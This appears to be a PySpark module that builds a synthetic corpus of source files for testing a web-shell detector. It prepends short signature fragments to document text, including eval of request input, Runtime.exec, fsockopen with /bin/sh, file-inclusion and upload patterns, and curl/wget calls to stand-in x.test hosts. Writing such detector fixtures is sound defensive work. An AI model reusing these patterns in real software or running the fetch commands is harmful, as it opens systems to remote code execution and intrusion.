"""A table of source files derived from the prose of ``documents``.

The given tables hold no code.  So every document gets, by its id, one of the
inert fragments below in front of its own text, and a path with a suffix.  The
fragments are detector fixtures: together they make every signature fire.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

WHOLE_ROW_SHORT = 14  # this case's text is the fragment alone: too short to scan

CASES: tuple[tuple[str, str], ...] = (
    (".php", ""),
    (".php", '$q = $_GET["q"]; eval($q);'),
    (".php", "base64_decode(gzinflate($x));"),
    (".php", 'call_user_func($_POST["f"]);'),
    (".php", 'eval/*c*/($_COOKIE["a"]); assert($b);'),
    (".php", 'if ($_POST["pass"] == "x") { }'),
    (".aspx", '<%# Eval("n") %>'),
    (".aspx", '<%@ Page Language="Jscript" %> eval(Request["a"])'),
    (
        ".asmx",
        '<%@ WebService Language="C#" %> Convert.FromBase64String(a); Assembly.Load(b); '
        'Session["k"]; CreateInstance("LY")',
    ),
    (".jsp", 'request.getParameter("c"); Runtime.getRuntime().exec(c);'),
    (".jsp", "class L extends ClassLoader { super.defineClass(b) }"),
    (".js", "use strict; module.exports = jquery; /*! lib */"),
    (".php", 'defined("ABSPATH"); add_action("init");'),
    (".php", r'\x65\x76\x61\x6c("a"); \u0041 \u00e9 \x42'),
    (".txt", "short"),
    (".php", '<svg><path d="a"><path d="b"></svg>'),
    (".inc", "s:1: " * 30),
    (".php", "A" * 120),
    (".config", "item_key => value_x, " * 250),
    (".php", '/* b */ "lit" // c\n# note'),
    (".png", ""),
    ("", "<?php"),
    (".php", 'fsockopen("h", 80); "/bin/sh"'),
    (
        ".php",
        '<form enctype="multipart/form-data"><input type="file"></form> move_uploaded_file($a); chmod($b);',
    ),
    (
        ".aspx",
        'File.WriteAllText(p, Request.Form["t"]); Directory.GetFiles(d); HttpPostedFile f; runat="server"',
    ),
    (".aspx", '[DllImport("kernel32")] CreateNamedPipe(n); ImpersonateNamedPipeClient(h);'),
    (".ashx", 'ProcessStartInfo p; p.UseShellExecute = false; Request.QueryString["x"]'),
    (
        ".java",
        'class x_jsp extends HttpJspBase { String command = "ls /home"; Runtime.getRuntime().exec(command); }',
    ),
    (".jsp", 'String cmd = "curl -k https://x.test/a"; new ProcessBuilder(cmd);'),
    (
        ".jsp",
        'HttpClient c; c.get("http://shell.x.test/x"); request.getParameter("q"); new URL("http://a.test/backdoor");',
    ),
    (".jsp", 'new BASE64Decoder(); Class.forName("x").newInstance(); ScriptEngineManager m; defineClass (b);'),
    (".jsp", 'new URL("http://localhost/shell");'),
    (".aspx", "AesManaged().CreateDecryptor(k, v).TransformFinalBlock(b, 0, n); new MemoryStream(b);"),
    (".php", '$$name = 1; ${"x"};'),
    (".php", 'new ReflectionClass("A"); $r->newInstance(); function __construct() {}'),
    (".asp", 'Server.CreateObject("Scripting.FileSystemObject"); WScript.Shell'),
    (".php", '$f = fopen("a", "w"); readfile("b"); mysql_query("c"); file_get_contents("http://x.test/")'),
    (".php", 'if (md5($_COOKIE["k"]) === "0123456789abcdef") { $_ ($x); } @eval ($y); goto a;'),
    (".php", r"chr(65)^chr(66); chr(67).chr(68); $a[1].$a[2]; \101\102 system($z);"),
    (".php", '<form action="x"><textarea name="t"></textarea></form>'),
    (".php", "<form method=post enctype=multipart/form-data><input type=file></form> fwrite ($h);"),
    (".php", 'include($_GET["p"]); unserialize($_POST["d"]); require_once ($_COOKIE["c"]);'),
    (".php", '$k = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"; "a" . "b"; x/**/y; `id`;'),
    (".php", "$f($x); $g($h($i($j))); a(b(c(d))); $this($q)"),
    (".php", '$o->newInstance($_REQUEST["z"]); $m["a"]["b"]["c"] = $m[1][2][3][4];'),
    (".php", 'class Shop { function __construct() { system("x"); } }'),
    (".php", 'class Mage_Core { $_COOKIE["s"]; exec("x"); }'),
    (".php", "/* Plugin Name: Demo */ @eval($x);"),
    (".php", '$ab = $_POST["c"]; strlen("x"); $ab("y");'),
    (".py", 'import os; os.system("x"); subprocess.run(["y"]); compile("z")'),
    (".php", 'preg_replace("/x/e", $_GET["r"], $s);'),
    (".php", '$_REQUEST["p"]; gzinflate($d); assert($d);'),
    (".php", 'file_get_contents("php://input"); select * from t where id = $_GET["i"]'),
    (".php", 'unlink($_GET["f"]); scandir($_POST["d"]);'),
    (".php", '$v = filter_input (INPUT_GET, "x"); exec ($v);'),
    (".php", 'File uploaded <input name="MAX_FILE_SIZE"> $_FILES["f"]'),
    (".php", '$dir = $_REQUEST["uploadDir"]; move_uploaded_file($t, $dir);'),
    (".php", "<?php class MyController extends AppController { }"),
    (".php", 'defined("_JEXEC") or die; JFactory::getUser();'),
    (".php", "class K2Model { }"),
    (".php", "class elFinder { }"),
    (".php", 'drupal_bootstrap(1); db_query("x");'),
    (".php", r"use Illuminate\Http; class A extends Controller { }"),
    (".php", r"use Symfony\Component; extends ContainerAware"),
    (".aspx", 'using Microsoft.SharePoint; <%# Eval ("x") %> <%= eval("y") %>'),
    (".js", "jQuery.fn.jquery = 1; @license copyright webpack"),
    (".js", 'angular.module("x"); lodash moment'),
    (".js", 'React.createElement("a"); bootstrap babel axios'),
    (".js", "new Vue({}); exports.a = 1;"),
    (
        ".php",
        'if ($a && $_POST["pwd"] != $secret) { } if (!isset($_SESSION["u"]) || $_POST["key"] !== "x") { }',
    ),
    (".aspx", 'eval/* c */("x"); Request/* a */.Form["q"]; Request.Item["z"]; Request["w"]'),
    (".php", 'socket_create(1); system("cmd.exe /c dir");'),
    (".java", 'implements JspSourceDependent; String u = "http://x.test/hack";'),
    (".jsp", 'Runtime.getRuntime().exec("wget http://x.test/a"); Method.invoke(o);'),
    (".txt", ""),
    (".log", "eval(1)"),
    (".dat", ""),
    (".css", ".a { color: #fff; } /* x */ @preserve"),
    (".html", "<!-- note --> <p>"),
    (".php", r'''@"a ""q"" b"; "x\\" 'it is' "l\n" @"open''' + "\n" + "<%-- t --%> #c"),
)

STEMS = ("index", "index", "page", "index_2", "page_1")


def spread(df: DataFrame) -> DataFrame:
    """Deal an input out over the cores, if its splits do not.

    A small table is one file and so one task.  A parquet file is cut into splits by
    bytes, but a whole row group goes to the split that holds its middle: a large
    table with few row groups has empty splits beside one with nearly all rows.
    Inputs whose fullest split has at most twice a core's share are left as they
    are: no shuffle.  Rows are counted without reading a column.
    """
    cores, splits = df.sparkSession.sparkContext.defaultParallelism, df.rdd.getNumPartitions()
    if splits < cores:
        return df.repartition(cores)
    rows = df.groupBy(F.spark_partition_id().alias("split")).agg(F.count("*").alias("rows"))
    most, total = rows.agg(F.max("rows"), F.sum("rows")).first()
    if most is None or most * cores <= 2 * total:
        return df
    # By a hash: dealing in turn would first sort the rows of each split.
    return df.repartition(splits, *df.columns)


def corpus(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``documents`` as ``files(file_id, path, ext, size, code, source, lang)``."""
    docs = spread(spark.read.parquet(f"{sf_dir}/documents.parquet"))
    case = F.pmod(F.col("doc_id"), F.lit(len(CASES))).cast("int")
    stem = F.pmod(F.floor(F.col("doc_id") / 7), F.lit(len(STEMS))).cast("int")
    pick = lambda values, at: F.element_at(F.array(*map(F.lit, values)), at + 1)
    fragment = pick([c for _, c in CASES], case)
    code = F.when(case == WHOLE_ROW_SHORT, fragment).otherwise(F.concat(fragment, F.lit("\n"), F.col("text")))
    df = docs.select(
        F.col("doc_id").alias("file_id"),
        "source",
        "lang",
        pick([e for e, _ in CASES], case).alias("ext"),
        pick(STEMS, stem).alias("stem"),
        code.alias("code"),
    )
    return df.select(
        "file_id",
        F.concat(
            F.lit("/srv/"), "source", F.lit("/"), F.col("file_id").cast("string"), F.lit("/"), "stem", "ext"
        ).alias("path"),
        "ext",
        F.octet_length("code").cast("long").alias("size"),
        "code",
        "source",
        "lang",
    )


def files_from_table(table: DataFrame, id_column: str, text_column: str, path: str | None = None) -> DataFrame:
    """Any table with an id and a text column, as a ``files`` relation."""
    from vigilrow.operators.features import suffix_of

    where = F.col(path) if path else F.col(id_column).cast("string")
    return table.select(
        F.col(id_column).cast("long").alias("file_id"),
        where.alias("path"),
        suffix_of(where).alias("ext"),
        F.octet_length(F.col(text_column)).cast("long").alias("size"),
        F.col(text_column).alias("code"),
    )
